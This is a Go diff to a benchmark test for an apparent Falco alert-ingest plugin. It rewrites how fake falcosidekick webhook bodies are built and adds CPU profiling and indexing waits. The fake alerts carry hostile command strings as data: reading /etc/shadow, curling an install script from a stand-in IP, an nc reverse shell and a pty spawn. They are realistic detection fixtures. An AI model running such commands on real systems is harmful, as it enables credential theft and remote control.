@@ -2,12 +2,13 @@ package plugin
 
 import (
 	"context"
-	"encoding/json"
 	"fmt"
 	"math/rand/v2"
 	"os"
 	"path/filepath"
 	"runtime"
+	"runtime/debug"
+	"runtime/pprof"
 	"slices"
 	"strconv"
 	"strings"
@@ -47,7 +48,9 @@ func newBenchScenario() *benchScenario {
 
 var benchPriorities = []string{"Critical", "Error", "Warning", "Warning", "Notice", "Notice", "Notice", "Informational"}
 
-// body is one falcosidekick webhook request (one event, fresh uuid), shaped like a real Falco 0.44 alert.
+// body is one falcosidekick webhook request (one event, fresh uuid), shaped like a real Falco 0.44 alert. It is
+// written with appends (every value is plain ASCII, so %q quotes it as JSON does) instead of json.Marshal: the
+// senders stand in for falcosidekick, another process, and should cost this one as little CPU as possible.
 func (s *benchScenario) body(i int, t time.Time) []byte {
 	r := s.rng
 	ri := min(int(r.ExpFloat64()*8), len(s.rules)-1)
@@ -56,15 +59,16 @@ func (s *benchScenario) body(i int, t time.Time) []byte {
 	pod, ns := s.pods[pi], s.namespaces[pi%len(s.namespaces)]
 	host := s.hosts[pi%len(s.hosts)]
 	cmd := []string{"bash -il", "cat /etc/shadow", "curl -s http://198.51.100.7/install.sh", "nc -e /bin/sh 203.0.113.5 4444", "python3 -c import pty"}[r.IntN(5)]
-	b, _ := json.Marshal(map[string]any{
-		"uuid": fmt.Sprintf("%08x-bench-4000-8000-%012d", r.Uint32(), i), "rule": rule, "priority": benchPriorities[ri%len(benchPriorities)], // a Falco rule has one priority
-		"time": t.Format(time.RFC3339Nano), "source": "syscall", "hostname": host,
-		"tags":   []string{"container", "maturity_stable", []string{"shell", "filesystem", "network", "process"}[i%4], fmt.Sprintf("T10%02d", i%40)},
-		"output": fmt.Sprintf("%s | evt_type=execve user=root user_uid=0 process=%s parent=containerd-shim command=%s container_id=%012x container_name=app container_image_repository=ghcr.io/acme/%s k8s_pod_name=%s k8s_ns_name=%s", t.Format("15:04:05.000000000")+": "+rule, strings.Fields(cmd)[0], cmd, r.Uint64()&0xffffffffffff, ns, pod, ns),
-		"output_fields": map[string]any{"container.id": fmt.Sprintf("%012x", pi), "container.name": "app", "container.image.repository": "ghcr.io/acme/" + ns, "container.image.tag": "1." + strconv.Itoa(pi%7),
-			"evt.time": t.UnixNano(), "evt.type": "execve", "k8s.ns.name": ns, "k8s.pod.name": pod, "proc.cmdline": cmd, "proc.exepath": "/usr/bin/" + strings.Fields(cmd)[0],
-			"proc.name": strings.Fields(cmd)[0], "proc.pname": "containerd-shim", "proc.tty": 0, "user.loginuid": -1, "user.name": "root", "user.uid": 0},
-	})
+	proc := strings.Fields(cmd)[0]
+	b := make([]byte, 0, 1536)
+	b = fmt.Appendf(b, `{"uuid":"%08x-bench-4000-8000-%012d","rule":%q,"priority":%q,"time":%q,"source":"syscall","hostname":%q,`,
+		r.Uint32(), i, rule, benchPriorities[ri%len(benchPriorities)], t.Format(time.RFC3339Nano), host) // a Falco rule has one priority
+	b = fmt.Appendf(b, `"tags":["container","maturity_stable",%q,"T10%02d"],`, []string{"shell", "filesystem", "network", "process"}[i%4], i%40)
+	b = fmt.Appendf(b, `"output":"%s: %s | evt_type=execve user=root user_uid=0 process=%s parent=containerd-shim command=%s container_id=%012x container_name=app container_image_repository=ghcr.io/acme/%s k8s_pod_name=%s k8s_ns_name=%s",`,
+		t.Format("15:04:05.000000000"), rule, proc, cmd, r.Uint64()&0xffffffffffff, ns, pod, ns)
+	b = fmt.Appendf(b, `"output_fields":{"container.id":"%012x","container.image.repository":"ghcr.io/acme/%s","container.image.tag":"1.%d","container.name":"app",`, pi, ns, pi%7)
+	b = fmt.Appendf(b, `"evt.time":%d,"evt.type":"execve","k8s.ns.name":%q,"k8s.pod.name":%q,"proc.cmdline":%q,"proc.exepath":"/usr/bin/%s",`, t.UnixNano(), ns, pod, cmd, proc)
+	b = fmt.Appendf(b, `"proc.name":%q,"proc.pname":"containerd-shim","proc.tty":0,"user.loginuid":-1,"user.name":"root","user.uid":0}}`, proc)
 	return b
 }
 
@@ -127,7 +131,9 @@ func BenchmarkEvents(b *testing.B) {
 		b.Fatal(d.storeErr)
 	}
 	scen := newBenchScenario()
-	end := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
+	// The seeded events fill the 24 h before seedEnd; the sustained ones follow it; queries read the 24 h up to end.
+	seedEnd := time.Date(2026, 11, 29, 12, 0, 0, 0, time.UTC)
+	end := seedEnd.Add(5 * time.Minute)
 	start := end.Add(-24 * time.Hour)
 
 	var seedElapsed, elapsed, cpu time.Duration
@@ -143,6 +149,7 @@ func BenchmarkEvents(b *testing.B) {
 		scen.rng = rand.New(rand.NewPCG(3, 4)) // new uuids, not the seeded ones again
 	}
 	step := 24 * time.Hour / time.Duration(max(n, 1))
+	seedStart := seedEnd.Add(-24 * time.Hour)
 	{
 		// Seed: n events through the store's own Ingest in batches (what a long-running store holds).
 		seedBegan := time.Now()
@@ -153,7 +160,7 @@ func BenchmarkEvents(b *testing.B) {
 			for i := 0; i < n; {
 				var batch []events.Event
 				for ; i < n && len(batch) < 2000; i++ {
-					evs, err := events.Parse(scen.body(i, start.Add(time.Duration(i)*step)), d.settings.parseOptions())
+					evs, err := events.Parse(scen.body(i, seedStart.Add(time.Duration(i)*step)), d.settings.parseOptions())
 					if err != nil {
 						panic(err)
 					}
@@ -171,7 +178,7 @@ func BenchmarkEvents(b *testing.B) {
 
 		if m > 0 {
 			// Sustained ingest on top: m single-event requests from concurrent senders through the resource handler.
-			runtime.GC()
+			debug.FreeOSMemory()                                      // what seeding left behind is not ingest's
 			_ = os.WriteFile("/proc/self/clear_refs", []byte("5"), 0) // reset the peak RSS mark (Linux)
 			rssBefore = peakRSSMB()
 
@@ -179,6 +186,17 @@ func BenchmarkEvents(b *testing.B) {
 			var failed atomic.Int64
 			var wg sync.WaitGroup
 			var scenMu sync.Mutex
+			// EVENTS_BENCH_CPUPROFILE=<file> writes a CPU profile of the sustained ingest alone.
+			if f := os.Getenv("EVENTS_BENCH_CPUPROFILE"); f != "" {
+				out, err := os.Create(f)
+				if err != nil {
+					b.Fatal(err)
+				}
+				if err := pprof.StartCPUProfile(out); err != nil {
+					b.Fatal(err)
+				}
+				defer out.Close()
+			}
 			cpuBefore := processCPU()
 			began := time.Now()
 			for range senders {
@@ -191,8 +209,9 @@ func BenchmarkEvents(b *testing.B) {
 							return
 						}
 						scenMu.Lock()
-						// Spread over the same 24 h, between the seeded events.
-						body := scen.body(n+i, start.Add(time.Duration(i)*(24*time.Hour/time.Duration(m))+500*time.Millisecond))
+						// As Falco produces them: in time order after the seeded day (at 20,000 events/s), shuffled
+						// only by the senders' concurrency.
+						body := scen.body(n+i, seedEnd.Add(time.Duration(i)*50*time.Microsecond))
 						scenMu.Unlock()
 						for {
 							rec := &benchRecorder{}
@@ -215,8 +234,14 @@ func BenchmarkEvents(b *testing.B) {
 				}()
 			}
 			wg.Wait()
+			// Ingest ends when the last event is also findable: a filtered events query waits for the FTS5 index
+			// (the store indexes beside the events' own commits).
+			if res := runBenchQuery(d, QueryTypeEvents, `{"limit":1,"filters":{"sources":["syscall"]}}`, start, end.Add(time.Hour), time.Minute); res.Error != nil {
+				b.Fatal(res.Error)
+			}
 			elapsed = time.Since(began)
 			cpu = processCPU() - cpuBefore
+			pprof.StopCPUProfile()
 			peak = peakRSSMB()
 			if failed.Load() > 0 {
 				b.Fatalf("%d requests failed", failed.Load())
@@ -234,7 +259,7 @@ func BenchmarkEvents(b *testing.B) {
 	printRow := func(r row) { fmt.Printf("| %s | %s | %s |\n", r.name, r.value, r.target) }
 	rows := []row{
 		{fmt.Sprintf("seeding %d events through the store in batches of 2,000", n), fmt.Sprintf("%.0f events/s", float64(n)/seedElapsed.Seconds()), ""},
-		{fmt.Sprintf("sustained ingest on top: %d falcosidekick-shaped single-event requests from %d concurrent senders", m, senders), fmt.Sprintf("%.0f events/s", float64(m)/elapsed.Seconds()), ">= 20,000 events/s"},
+		{fmt.Sprintf("sustained ingest on top: %d falcosidekick-shaped single-event requests from %d concurrent senders, until the last is findable", m, senders), fmt.Sprintf("%.0f events/s", float64(m)/elapsed.Seconds()), ">= 20,000 events/s"},
 		{"ingest CPU time of the whole process (handler, store, senders)", fmt.Sprintf("%.0f µs per event = %.0f events per CPU-second", float64(cpu.Microseconds())/float64(m), float64(m)/cpu.Seconds()), ""},
 		{"503 answers while queue full (retried)", strconv.FormatInt(refused.Load(), 10), ""},
 		{"peak RSS during ingest (whole test process, senders included)", fmt.Sprintf("%.0f MB (%.0f MB before)", peak, rssBefore), "< 200 MB"},
